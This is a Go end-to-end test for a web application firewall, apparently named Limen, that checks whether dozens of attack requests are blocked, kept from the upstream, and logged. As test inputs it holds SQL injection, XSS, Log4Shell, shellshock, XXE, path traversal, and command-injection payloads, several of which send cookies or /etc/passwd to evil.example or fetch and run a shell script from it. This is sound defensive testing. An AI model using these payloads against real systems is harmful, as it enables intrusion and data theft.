package e2e_test

import (
	"encoding/base64"
	"strings"
	"testing"
)

// attack is a request that must not get through.
type attack struct {
	name string
	request
}

const (
	union   = `' UNION SELECT username, password FROM users-- -`
	script  = `<script>fetch('https://evil.example/?c='+document.cookie)</script>`
	jndi    = `${jndi:ldap://evil.example:1389/a}`
	shock   = `() { :; }; /bin/bash -c "cat /etc/passwd"`
	command = `127.0.0.1; cat /etc/passwd | nc evil.example 4444`
	climb   = `../../../../../../etc/passwd`
)

// encode percent-encodes what a browser would.
func encode(s string) string {
	const plain = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_.*"
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		switch c := s[i]; {
		case strings.IndexByte(plain, c) >= 0:
			b.WriteByte(c)
		case c == ' ':
			b.WriteByte('+')
		default:
			b.WriteString("%" + string("0123456789ABCDEF"[c>>4]) + string("0123456789ABCDEF"[c&15]))
		}
	}
	return b.String()
}

func attacks(t *testing.T) []attack {
	const urlencoded, json, xml = "application/x-www-form-urlencoded", "application/json", "application/xml"
	zip := post("/api/orders", json, "", "Content-Encoding: gzip")
	zip.body = zipped(t, `{"id":"1`+union+`","note":"gift"}`)
	chunks := post("/login", urlencoded, "user=admin&password="+encode(`x' OR '1'='1' -- `))
	chunks.chunked = true
	filler := strings.Repeat("The quick brown fox jumps over the lazy dog. ", 100_000/45)
	put := post("/api/items/7", json, `{"name":"`+`1'; DROP TABLE items; --`+`"}`)
	put.method = "PUT"
	return []attack{
		{"sqli in query", get("/products?category=books&id=1" + encode(union))},
		{"sqli without a browser", request{method: "GET", target: "/products?id=1" + encode(union), headers: []string{"User-Agent: sqlmap/1.8"}, bare: true}},
		{"blind sqli in query", get("/item?id=" + encode(`1 AND (SELECT 5 FROM (SELECT SLEEP(5))x)`))},
		{"sqli in path", get("/products/1" + strings.ReplaceAll(encode(union), "+", "%20") + "/reviews")},
		{"sqli in cookie", get("/", "Cookie: session=9f8b3c1d; tracking=x' UNION SELECT NULL,version()--")},
		{"xss in query", get("/search?q=" + encode(script))},
		{"xss by event handler", get("/search?q=" + encode(`"><img src=x onerror=alert(document.domain)>`))},
		{"xss in referer", get("/", `Referer: https://shop.example.com/"><svg onload=alert(1)>`)},
		{"traversal, raw", get("/download?file=" + climb)},
		{"traversal, encoded", get("/download?file=" + strings.ReplaceAll(climb, "/", "%2f"))},
		{"traversal, encoded twice", get("/download?file=" + strings.NewReplacer("/", "%252f", ".", "%252e").Replace(climb))},
		{"traversal in path", get("/cgi-bin/.%2e/.%2e/.%2e/.%2e/.%2e/etc/passwd")},
		{"traversal, Windows", get("/view?page=" + encode(`..\..\..\..\windows\win.ini`))},
		{"command in query", get("/ping?host=" + encode(command))},
		{"command in form", post("/tools/ping", urlencoded, "host="+encode("8.8.8.8 && wget http://evil.example/x.sh -O- | sh"))},
		{"log4shell in header", get("/", "X-Api-Version: "+jndi)},
		{"log4shell in user agent", get("/", "User-Agent: "+jndi)},
		{"log4shell, disguised", get("/?x=" + encode(`${${lower:j}${upper:n}di:${lower:l}dap://evil.example/a}`))},
		{"shellshock in user agent", get("/cgi-bin/status", "User-Agent: "+shock)},
		{"xxe body", post("/api/import", xml, `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><order><id>&x;</id></order>`)},
		{"sqli in form", post("/login", urlencoded, "user="+encode(`admin' OR 1=1 -- `)+"&password=x")},
		{"xss in form", post("/comments", urlencoded, "author=Anna&text="+encode("Nice! "+script))},
		{"multipart field", form(t, "/profile", part{name: "name", content: "Anna"}, part{name: "about", content: script})},
		{"multipart file name", form(t, "/upload", part{name: "file", file: "../../../../var/www/html/shell.php", contentType: "image/png", content: "x"})},
		{"multipart text file", form(t, "/upload", part{name: "file", file: "notes.txt", contentType: "text/plain", content: "Hello\n" + script})},
		{"JSON value", post("/api/orders", json, `{"customer":{"name":"Anna"},"items":[{"id":"1`+union+`","quantity":2}]}`)},
		{"JSON escapes", post("/api/comments", json, `{"text":"\u003cscript\u003ealert(document.cookie)\u003c/script\u003e"}`)},
		{"JSON in JSON", post("/api/events", json, `{"event":"view","payload":"{\"filter\":{\"name\":\"x' UNION SELECT login, password FROM users-- -\"}}"}`)},
		{"PUT with JSON", put},
		{"GraphQL", post("/graphql", json, `{"query":"query { user(id: \"1' UNION SELECT username, password FROM users-- -\") { name email } }"}`)},
		{"GraphQL variables", post("/graphql", json, `{"query":"query U($n: String!) { users(name: $n) { id } }","variables":{"n":"x' OR 1=1 UNION SELECT password FROM users--"}}`)},
		{"XML value", post("/soap", "text/xml; charset=utf-8", `<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><find><name>x' UNION SELECT username, password FROM users-- -</name></find></soap:Body></soap:Envelope>`)},
		{"plain text", post("/paste", "text/plain", script)},
		{"gzip body", zip},
		{"chunked body", chunks},
		{"wrong type: JSON as image", post("/upload", "image/png", `{"q":"1`+union+`"}`)},
		{"wrong type: form as JSON", post("/login", json, "user="+encode(`admin' UNION SELECT 1,2,3-- `)+"&password=x")},
		{"no type", request{method: "POST", target: "/x", body: []byte("q=" + encode(script))}},
		{"base64 in query", get("/go?data=" + base64.RawURLEncoding.EncodeToString([]byte(script)))},
		{"base64 in JSON", post("/api/state", json, `{"state":"`+base64.StdEncoding.EncodeToString([]byte(`{"id":"1`+union+`"}`))+`"}`)},
		{"behind 100 KB of JSON", post("/api/notes", json, `{"text":"`+filler+`","id":"1`+union+`"}`)},
		{"behind 100 KB of form", post("/notes", urlencoded, "text="+encode(filler)+"&q="+encode(script))},
		{"behind 100 KB of multipart", form(t, "/notes", part{name: "text", content: filler}, part{name: "q", content: "x" + union})},
	}
}

// Ensure that attacks of every kind, in every place and content type, get a 403
// of Caddy's, do not reach the upstream, and can be found and explained
// afterwards.
func TestAttacks(t *testing.T) {
	s := startSite(t)
	blocked := map[string]string{} // id to name
	for _, a := range attacks(t) {
		t.Run(a.name, func(t *testing.T) {
			r := send(t, s.limen, a.wire(a.name), a.method)
			id, ok := strings.CutPrefix(r.body, "blocked ")
			if r.status != 403 || r.upstream || !ok {
				t.Fatalf("status %d (the upstream's: %v), score %s, class %s, body %q; want Limen's 403", r.status, r.upstream, r.header.Get("X-Score"), r.header.Get("X-Class"), r.body)
			}
			if n := len(s.upstream.got(a.name)); n != 0 {
				t.Errorf("the upstream got it %d times", n)
			}
			if len(id) != 26 || blocked[id] != "" {
				t.Errorf("id %q, want a ULID of its own", id)
			}
			blocked[id] = a.name
		})
	}
	byName := map[string]attack{}
	for _, a := range attacks(t) {
		byName[a.name] = a
	}
	t.Run("verdicts", func(t *testing.T) {
		rows := s.await(len(blocked), "--decision", "block")
		for id, name := range blocked {
			v, ok := rows[id]
			if !ok {
				t.Errorf("%s: no row %s among blocked verdicts", name, id)
				continue
			}
			if v.Decision != "block" || v.Method != byName[name].method || v.Class == "none" || v.Class == "" || v.Score <= 0 || v.Fallback != "" {
				t.Errorf("%s: row %+v", name, v)
			}
			if v.Inspected < v.Sent {
				t.Errorf("%s: %d of %d bytes inspected", name, v.Inspected, v.Sent)
			}
		}
		if len(rows) != len(blocked) {
			t.Errorf("%d blocked verdicts for %d blocked requests", len(rows), len(blocked))
		}
	})
	t.Run("why", func(t *testing.T) {
		checked := 0
		for id, name := range blocked {
			if checked++; checked > 5 {
				break
			}
			r := run(t, s.home, "limen", "why", id, "--address", s.admin)
			if r.code != 0 {
				t.Errorf("why %s ended with %d:\n%s", id, r.code, r.err)
			}
			for _, want := range []string{id, "block", "limen-http", "sha256:"} {
				if !strings.Contains(r.out, want) {
					t.Errorf("%s: why %s does not say %q:\n%s", name, id, want, r.out)
				}
			}
		}
	})
	t.Run("why not", func(t *testing.T) {
		r := run(t, s.home, "limen", "why", "01ARZ3NDEKTSV4RRFFQ69G5FAV", "--address", s.admin)
		if r.code == 0 || !strings.Contains(r.err, "01ARZ3NDEKTSV4RRFFQ69G5FAV") {
			t.Errorf("why of an unknown id ended with %d:\n%s", r.code, r.err)
		}
	})
	// Observing only, the same attacks reach the upstream as they are.
	t.Run("observe", func(t *testing.T) {
		for _, a := range attacks(t)[:10] {
			name := "observed " + a.name
			if r := send(t, s.observed, a.wire(name), a.method); r.status != 200 || !r.upstream {
				t.Errorf("%s: status %d, the upstream's: %v", a.name, r.status, r.upstream)
			}
			bare := "bare " + a.name
			send(t, s.bare, a.wire(bare), a.method)
			sameArrival(t, a.name, s.upstream.got(name), s.upstream.got(bare), name, bare)
		}
	})
}
